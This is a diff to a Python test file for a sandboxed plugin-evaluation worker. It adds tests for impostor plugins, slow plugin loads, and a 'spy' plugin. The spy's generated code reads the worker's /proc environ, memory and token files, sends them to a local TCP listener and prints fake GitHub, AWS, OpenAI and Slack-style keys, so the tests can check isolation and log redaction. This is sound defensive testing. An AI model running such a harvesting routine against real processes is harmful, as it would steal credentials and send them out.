@@ -7,9 +7,14 @@ plugin wheels installed from a local index into the sandbox's venv, NegConstrain
 - a worker killed with kill -9 right after its push landed: the retry finishes the request with those
   results (its receipt in the results dataset), running and pushing nothing;
 - hostile plugins (sys.exit, an endless loop, 10 GB, hunting for tokens, writing outside its folder) each
-  fail their own request with the reason; the worker goes on; no token in any log.
+  fail their own request with the reason; the worker goes on; no token in any log;
+- in both isolation modes: an impostor (a request for "impostor" whose plugin names its model bm25 at
+  9.9.9) publishes nothing; a spy reading the worker's /proc entries and token file and sending them to a
+  listener on 127.0.0.1 gets no secret, and what it prints is redacted from everything published;
+- a plugin whose import outlasts the load limit: the request is retried as the worker's failure.
 """
 
+import ast
 import json
 import os
 import shutil
@@ -359,10 +364,9 @@ def test_hostile_plugins_fail_their_own_requests_with_the_reason_and_leak_no_tok
 def test_without_bubblewrap_limits_and_environment_hold_and_a_changed_data_folder_is_detected(
     hub, world, tmp_path, monkeypatch
 ):
-    """Isolation "process": no read-only file system, so a write into the task data succeeds but is detected."""
-    monkeypatch.setenv("HF_TOKEN", HUB_TOKEN)
-    for name, value in SECRETS.items():
-        monkeypatch.setenv(name, value)
+    """Isolation "process": no read-only file system, so a write into the task data succeeds but is detected.
+
+    The worker holds its token in memory only (this mode refuses to start with HF_TOKEN or a token file)."""
     data = tmp_path / "data"
     shutil.copytree(world / "data", data)
     body = f"""
@@ -385,3 +389,170 @@ def test_without_bubblewrap_limits_and_environment_hold_and_a_changed_data_folde
     assert final.id == submitted.id and final.status == "failed"
     assert final.failure == f"the evaluation failed: wrote outside its folder: changed {data / 'corpus.jsonl'}"
     assert not [p for p in dataset_files(hub, RESULTS) if p.startswith("results/")]
+
+
+def isolation_modes():
+    """bwrap where bubblewrap runs, and process (limits only) everywhere."""
+    return [pytest.param("bwrap", marks=pytest.mark.skipif(not bwrap_available(), reason="no bubblewrap")), "process"]
+
+
+def mode_worker(hub, world, tmp_path, isolation, monkeypatch, **changes) -> Worker:
+    """A worker in ``isolation``: with bwrap it holds HF_TOKEN and other secrets in its environment; in process
+    mode (which refuses those) only the token, in memory, as `--token-stdin` gives it."""
+    import huggingface_hub.constants
+
+    hf_home = tmp_path / "worker-hf-home"
+    hf_home.mkdir(exist_ok=True)
+    monkeypatch.setattr(huggingface_hub.constants, "HF_TOKEN_PATH", str(hf_home / "token"))
+    monkeypatch.setattr(huggingface_hub.constants, "HF_STORED_TOKENS_PATH", str(hf_home / "stored_tokens"))
+    if isolation == "bwrap":
+        (hf_home / "token").write_text(HUB_TOKEN)
+        monkeypatch.setenv("HF_TOKEN", HUB_TOKEN)
+        for name, value in SECRETS.items():
+            monkeypatch.setenv(name, value)
+    settings = WorkerSettings(
+        REQUESTS, RESULTS, hub.endpoint, HUB_TOKEN, worker_id=f"w-{isolation}",
+        data_dirs=(f"negconstraint={world / 'data'}",), pip_args=index(world), isolation=isolation,
+        work_dir=tmp_path / "work", **changes,
+    )  # fmt: skip
+    return Worker(settings, lambda line: None)
+
+
+@pytest.mark.parametrize("isolation", isolation_modes())
+def test_an_impostor_plugin_publishes_nothing_in_either_mode(hub, world, tmp_path, monkeypatch, isolation):
+    source = hostile_plugin("impostor", "pass").replace(
+        'ModelMetadata("impostor", ModelKind.SPARSE, revision="1.0.0"',
+        'ModelMetadata("bm25", ModelKind.SPARSE, revision="9.9.9"',
+    )
+    assert 'ModelMetadata("bm25"' in source
+    build_wheel(tmp_path / "src", world / "wheels", f"impostor-{isolation}", f"impostor_{isolation}", source, "1.0.0")
+    submitted = request(hub, world, f"impostor-{isolation}==1.0.0", "impostor")
+    (final,) = mode_worker(hub, world, tmp_path, isolation, monkeypatch).run(once=True)
+    assert final.id == submitted.id and final.status == "failed"
+    assert final.failure == (
+        "the run's results are of model 'bm25' at revision '9.9.9', but the request is for 'impostor'; "
+        "a request publishes only the model it names"
+    )
+    assert not [p for p in dataset_files(hub, RESULTS) if p.startswith("results/")]  # no result, no model card
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 keeping every byte sent to it: where a spy sends what it found."""
+
+    def __init__(self):
+        import socket
+
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.received = bytearray()
+        self.closed = 0  # connections read to their end
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.server.accept()
+            except OSError:
+                return
+            with conn:
+                while chunk := conn.recv(65536):
+                    self.received += chunk
+            self.closed += 1
+
+    def close(self):
+        self.server.close()
+
+
+PRINTED = {
+    "github": "ghp_" + "G1thubT0ken" * 3 + "abc",
+    "github fine-grained": "github_pat_11AAAAAAA0" + "x" * 40,
+    "aws": "AKIAIOSFODNN7EXAMPLE",
+    "openai": "sk-proj-" + "Op3nAiKey" * 5,
+    "slack": "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
+}
+
+
+def _spy(worker_pid: int, token_file: Path, port: int) -> str:
+    """Reads the worker's /proc entries (and its ancestors') and the token file, sends them to the listener,
+    prints them and every secret the test planted in it, then fails with a token in its error."""
+    planted = [*SECRETS.values(), HUB_TOKEN, *PRINTED.values()]
+    return f"""
+        import os, socket
+        found = {{}}
+        pids = [{worker_pid}, os.getppid()]
+        for pid in pids:
+            for entry in ("environ", "cmdline", "maps", "mem"):
+                try:
+                    with open(f"/proc/{{pid}}/{{entry}}", "rb") as handle:
+                        found[f"/proc/{{pid}}/{{entry}}"] = handle.read(1 << 20)
+                except OSError as exc:
+                    found[f"/proc/{{pid}}/{{entry}}"] = repr(exc).encode()
+        for path in ({str(token_file)!r}, os.path.expanduser("~/.cache/huggingface/token")):
+            try:
+                found[path] = open(path, "rb").read()
+            except OSError as exc:
+                found[path] = repr(exc).encode()
+        with socket.create_connection(("127.0.0.1", {port}), timeout=30) as conn:
+            conn.sendall(repr(found).encode())
+        print("spy read:", {{k: v[:200] for k, v in found.items()}})
+        print("planted:", {planted!r})
+        raise RuntimeError("spy done; token " + {HUB_TOKEN!r} + " and " + {PRINTED["github"]!r})
+    """
+
+
+@pytest.mark.parametrize("isolation", isolation_modes())
+def test_a_spy_reading_the_workers_proc_and_token_file_gets_no_secret_and_its_prints_are_redacted(
+    hub, world, tmp_path, monkeypatch, isolation
+):
+    listener = Listener()
+    try:
+        runner = mode_worker(hub, world, tmp_path, isolation, monkeypatch)
+        body = _spy(os.getpid(), tmp_path / "worker-hf-home" / "token", listener.port)
+        build_wheel(tmp_path / "src", world / "wheels", f"spy-{isolation}", f"spy_{isolation}",
+                    hostile_plugin("spy", body), "1.0.0")  # fmt: skip
+        submitted = request(hub, world, f"spy-{isolation}==1.0.0", "spy")
+        (final,) = runner.run(once=True)
+        wait_for(lambda: listener.closed, "the spy's report", timeout=60)
+    finally:
+        listener.close()
+    assert final.id == submitted.id and final.status == "failed"
+    sent = bytes(listener.received)
+    report = ast.literal_eval(sent.decode())  # the spy ran and reported what it could read
+    for secret in (HUB_TOKEN, *SECRETS.values()):
+        assert secret.encode() not in sent, secret  # nothing of the worker's reached the spy
+    if isolation == "process":  # the worker is not dumpable: its environment and memory are closed to the spy
+        for entry in ("environ", "maps", "mem"):
+            assert report[f"/proc/{os.getpid()}/{entry}"].startswith(b"PermissionError"), report
+    else:  # a fresh /proc in its own PID namespace: the worker is not there
+        assert report[f"/proc/{os.getpid()}/environ"].startswith((b"FileNotFoundError", b"PermissionError")), report
+    published = dataset_files(hub, REQUESTS)
+    log = published[final.log].decode()
+    assert "spy read:" in log and "planted:" in log  # the prints are published, redacted
+    texts = [data.decode("utf-8", "replace") for data in published.values()] + [final.failure]
+    held = (HUB_TOKEN, *SECRETS.values()) if isolation == "bwrap" else (HUB_TOKEN,)  # process mode refuses others
+    for secret in (*held, *PRINTED.values()):
+        assert not [t for t in texts if secret in t], secret
+    assert "RuntimeError: spy done; token *** and ***" in final.failure
+
+
+def test_a_slow_plugin_load_is_retried_as_the_workers_failure_not_the_plugins(hub, world, tmp_path, monkeypatch):
+    gate = tmp_path / "gate"
+    gate.write_text("the plugin's import waits while this file exists")
+    source = hostile_plugin("slow-load", "pass").replace(
+        "from leaderboard import", f"import os, time\nwhile os.path.exists({str(gate)!r}):\n    time.sleep(0.05)\n"
+        "from leaderboard import", 1)  # fmt: skip
+    build_wheel(tmp_path / "src", world / "wheels", "slow-load", "slow_load", source, "1.0.0")
+    submitted = request(hub, world, "slow-load==1.0.0", "slow-load")
+    isolation = "bwrap" if bwrap_available() else "process"
+    runner = mode_worker(hub, world, tmp_path, isolation, monkeypatch, plugin_timeout=2)
+    (retried,) = runner.run(once=True)
+    assert retried.id == submitted.id and retried.status == "pending" and retried.attempts == 1, retried.failure
+    assert retried.history[-1].note == (
+        "the worker's own failure (not the plugin's): plugin 'slow-load' did not finish loading within 2 s "
+        "on this worker; to be retried (attempt 1 of 3)"
+    )
+    assert "Unknown model 'slow-load'" in dataset_files(hub, REQUESTS)[retried.log].decode()
+    gate.unlink()  # a machine with time to spare: the next attempt loads it
+    (final,) = runner.run(once=True)
+    assert final.id == submitted.id and final.status == "finished" and final.attempts == 2, final.failure
